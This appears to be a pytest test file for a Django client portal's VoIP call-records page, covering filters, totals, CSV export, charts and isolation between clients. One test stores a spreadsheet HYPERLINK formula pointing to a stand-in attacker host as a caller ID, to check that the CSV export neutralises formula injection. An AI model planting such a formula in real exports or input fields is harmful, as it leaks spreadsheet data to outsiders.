"""The client area's call records: filters, totals, pages, CSV export, the daily spend chart, the panel on the
service page, and isolation of another client's calls."""
import csv
import io
from datetime import datetime, timedelta
from functools import partial
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tests.factories import ClientFactory, ServiceFactory
from tests.voip.factories import stored_calls
from portal.querysets import seek_rows
from voip import views
from voip.charts import axis_top, spend_chart_svg

pytestmark = pytest.mark.django_db


def at(days_ago, hour=12):
    today = timezone.localdate()
    midnight = datetime.combine(today - timedelta(days=days_ago), datetime.min.time(),
                                tzinfo=timezone.get_current_timezone())
    return midnight + timedelta(hours=hour)


@pytest.fixture
def history(service, source):
    return stored_calls(service, source, [
        {"answer_time": at(0), "cost": "0.5500", "callee": "2125551234"},
        {"answer_time": at(0, 14), "cost": "0.1700", "callee": "+442083661177", "e164": "442083661177",
         "destination": "United Kingdom London"},
        {"answer_time": at(2), "cost": "0.7000", "direction": "inbound", "caller": "3105550199",
         "callee": "2125550100", "e164": "12125550100"},
        {"answer_time": at(3), "cost": "0", "status": "ignored", "callee": "911", "e164": "", "billed_seconds": 0},
        {"answer_time": at(40), "cost": "9.9999"},  # outside the default 30 days
    ])


def page(client, service, **params):
    client.force_login(service.client.owner_user)
    return client.get(reverse("clientarea:voip_calls", args=[service.pk]), params)


def test_default_period_totals_chart_and_balance(client, service, history):
    response = page(client, service)
    assert response.status_code == 200
    totals = response.context["totals"]
    assert (totals.calls, totals.cost) == (4, Decimal("1.4200"))
    html = response.content.decode()
    assert 'data-testid="spend-chart"' in html and "1.42 USD in total" in html
    assert html.count('class="spend-bar"') == 2  # two days with charges
    assert 'data-testid="voip-balance"' in html and reverse("clientarea:add_funds") in html


def test_filters_by_direction_number_and_dates(client, service, history):
    assert page(client, service, direction="inbound").context["totals"].calls == 1
    assert page(client, service, number="4420836").context["totals"].calls == 1
    assert page(client, service, number="+44 20 8366").context["totals"].calls == 1
    today = timezone.localdate()
    start = (today - timedelta(days=45)).isoformat()
    assert page(client, service, start=start, end=today.isoformat()).context["totals"].calls == 5
    one_day = (today - timedelta(days=2)).isoformat()
    response = page(client, service, start=one_day, end=one_day)
    assert response.context["totals"].cost == Decimal("0.7000")


def test_a_bad_period_is_reported_and_the_default_is_shown(client, service, history):
    response = page(client, service, start="2024-02-10", end="2024-02-01")
    assert "The end date must be on or after the start date." in response.content.decode()
    assert response.context["totals"].calls == 4


def test_pages_keep_the_filters(client, service, source):
    stored_calls(service, source, [{"answer_time": at(1), "cost": "0.01"} for _ in range(120)])
    response = page(client, service, direction="outbound")
    assert response.context["page"].paginator.num_pages == 3
    assert "?direction=outbound&amp;page=2" in response.content.decode()
    assert len(page(client, service, direction="outbound", page=3).context["page"].object_list) == 20


def test_csv_export_streams_the_filtered_calls(client, service, history):
    client.force_login(service.client.owner_user)
    response = client.get(reverse("clientarea:voip_calls_csv", args=[service.pk]), {"direction": "outbound"})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"].startswith('attachment; filename="calls-tenant-a.example-')
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["answer_time", "direction", "caller"]
    assert [row[8] for row in rows[1:]] == ["0.1700", "0.5500", "0.0000"]
    assert all(row[1] == "outbound" for row in rows[1:])


def test_another_clients_calls_and_non_voip_services_answer_404(client, service, history):
    other = ClientFactory()
    client.force_login(other.owner_user)
    assert client.get(reverse("clientarea:voip_calls", args=[service.pk])).status_code == 404
    assert client.get(reverse("clientarea:voip_calls_csv", args=[service.pk])).status_code == 404
    mail = ServiceFactory(client=other)
    assert client.get(reverse("clientarea:voip_calls", args=[mail.pk])).status_code == 404


def test_the_service_page_shows_the_voip_panel_only_for_voip_services(client, service, history):
    client.force_login(service.client.owner_user)
    html = client.get(reverse("clientarea:service", args=[service.pk])).content.decode()
    assert 'data-testid="voip-panel"' in html and reverse("clientarea:voip_calls", args=[service.pk]) in html
    mail = ServiceFactory(client=service.client)
    html = client.get(reverse("clientarea:service", args=[mail.pk])).content.decode()
    assert 'data-testid="voip-panel"' not in html


def test_the_page_takes_a_fixed_number_of_queries(client, service, source, django_assert_max_num_queries):
    stored_calls(service, source, [{"answer_time": at(n % 20), "cost": "0.02"} for n in range(60)])
    client.force_login(service.client.owner_user)
    url = reverse("clientarea:voip_calls", args=[service.pk])
    with django_assert_max_num_queries(12):
        assert client.get(url).status_code == 200


def test_the_page_takes_the_same_queries_for_3_or_300_calls(client, service, source):
    """The load test's big VoIP clients: totals, chart and page are each one query whatever the calls."""
    client.force_login(service.client.owner_user)

    def queries(**params):
        with CaptureQueriesContext(connection) as context:
            assert client.get(reverse("clientarea:voip_calls", args=[service.pk]), params).status_code == 200
        return len(context)

    stored_calls(service, source, [{"answer_time": at(n % 20), "cost": "0.02", "external_id": f"a{n}"} for n in range(3)])
    few = queries(), queries(direction="outbound", number="212", page="1")
    stored_calls(service, source, [{"answer_time": at(n % 25), "cost": "0.02", "external_id": f"b{n}"} for n in range(297)])
    assert (queries(), queries(direction="outbound", number="212", page="1")) == few


def test_the_csv_reads_the_calls_a_batch_at_a_time(client, service, source, monkeypatch):
    """Bounded memory: one query per batch of calls (keyset pages, portal.querysets), every call once, newest
    first, even where batches split calls of the same second."""
    monkeypatch.setattr(views, "seek_rows", partial(seek_rows, batch_size=5))
    stored_calls(service, source, [{"answer_time": at(n // 4), "cost": "0.02", "external_id": f"c{n}",
                                    "callee": f"21255500{n:02d}"} for n in range(12)])
    client.force_login(service.client.owner_user)
    with CaptureQueriesContext(connection) as context:
        response = client.get(reverse("clientarea:voip_calls_csv", args=[service.pk]))
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))[1:]
    batches = [query for query in context.captured_queries if "LIMIT 5" in query["sql"]]
    assert len(batches) == 3  # 5 + 5 + 2
    assert sorted(row[3] for row in rows) == [f"21255500{n:02d}" for n in range(12)]
    assert [row[0] for row in rows] == sorted((row[0] for row in rows), reverse=True)


def test_chart_scale_and_empty_period():
    assert axis_top(Decimal("0.42")) == Decimal("0.5") and axis_top(Decimal("7")) == 10
    assert axis_top(Decimal("0")) == 1 and axis_top(Decimal("120")) == 200
    day = timezone.localdate()
    assert spend_chart_svg([]) == ""
    svg = spend_chart_svg([(day, Decimal("0"))])
    assert "spend-bar" not in svg and "0.00 in total" in svg


def test_a_postpaid_service_shows_its_unbilled_usage_on_both_pages(client, service, source, product):
    from portal.models import Client
    from tests.factories import InvoiceFactory
    from voip.models import BillingMode, Cdr, VoipProduct

    VoipProduct.objects.filter(product=product).update(billing_mode=BillingMode.POSTPAID)
    Client.objects.filter(pk=service.client_id).update(voip_credit_limit=Decimal("50.00"))
    rows = stored_calls(service, source, [
        {"answer_time": at(0), "cost": "1.2345", "postpaid": True},
        {"answer_time": at(0, 13), "cost": "0.0050", "postpaid": True},
        {"answer_time": at(0, 14), "cost": "3.0000", "postpaid": True},  # invoiced below: not unbilled any more
        {"answer_time": at(0, 15), "cost": "0", "postpaid": True, "status": "unrated"},
    ])
    Cdr.objects.filter(pk=rows[2].pk).update(usage_invoice=InvoiceFactory(client=service.client))
    html = page(client, service).content.decode()
    assert 'data-testid="voip-postpaid"' in html
    assert '<strong data-testid="voip-unbilled">1.24 USD</strong> (2 calls;' in html
    assert "Credit limit: 50.00 USD" in html
    client.force_login(service.client.owner_user)
    html = client.get(reverse("clientarea:service", args=[service.pk])).content.decode()
    assert '<strong data-testid="voip-unbilled">1.24 USD</strong>' in html


def test_a_prepaid_service_shows_no_postpaid_usage(client, service, history):
    assert 'data-testid="voip-postpaid"' not in page(client, service).content.decode()


def test_a_formula_pushed_as_caller_id_comes_out_of_the_csv_as_text(client, service, source):
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    stored_calls(service, source, [{"answer_time": at(0), "cost": "0.10", "direction": "inbound", "caller": hyperlink,
                                    "callee": "+12125550100", "e164": "12125550100"}])
    client.force_login(service.client.owner_user)
    response = client.get(reverse("clientarea:voip_calls_csv", args=[service.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert (rows[1][2], rows[1][3], rows[1][4]) == ("'" + hyperlink, "+12125550100", "12125550100")
